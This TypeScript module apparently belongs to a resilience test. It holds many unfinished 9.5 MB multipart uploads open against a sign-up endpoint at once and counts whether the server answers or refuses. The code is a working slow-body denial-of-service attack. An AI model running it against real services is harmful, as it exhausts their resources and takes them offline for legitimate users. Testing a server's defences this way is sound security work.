import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { ATTACKER } from './call'
import type { Tally } from './tally'

const SIZE = 9_500_000
const CHUNK = Buffer.alloc(64 * 1024, 'a')

interface Holding {
  atOnce: number
  tally: Tally
  stopped: () => boolean
}

/** Sends all of a body but its last byte, and waits; resolves once the server has ended the connection or answered. */
function holdOne(origin: string, sockets: Set<Socket>): Promise<boolean> {
  const { hostname, port } = new URL(origin)
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER })
    sockets.add(socket)
    let left = SIZE - 1
    const send = () => {
      while (left > 0) {
        const part = CHUNK.subarray(0, Math.min(CHUNK.length, left))
        left -= part.length
        if (!socket.write(part)) return
      }
    }
    socket.on('drain', send)
    socket.once('data', (answer) => {
      resolve(/^HTTP\/1\.1 2/.test(String(answer)))
      socket.destroy()
    })
    socket.on('error', () => undefined)
    socket.on('close', () => {
      sockets.delete(socket)
      resolve(false)
    })
    socket.write(
      'POST /api/trpc/account.signUp HTTP/1.1\r\nhost: clockface\r\ncontent-type: multipart/form-data; boundary=x\r\n' +
        `content-length: ${SIZE}\r\n\r\n`,
    )
    send()
  })
}

/** So many bodies in flight at all times, none of which ever ends. */
export async function holdBodies(origin: string, { atOnce, tally, stopped }: Holding): Promise<void> {
  const sockets = new Set<Socket>()
  const holder = async () => {
    while (!stopped()) {
      if (await holdOne(origin, sockets)) tally.served++
      else tally.refused++
      await wait(100)
    }
  }
  const all = Promise.all(Array.from({ length: atOnce }, holder))
  while (!stopped()) await wait(100)
  for (const socket of sockets) socket.destroy()
  await all
}
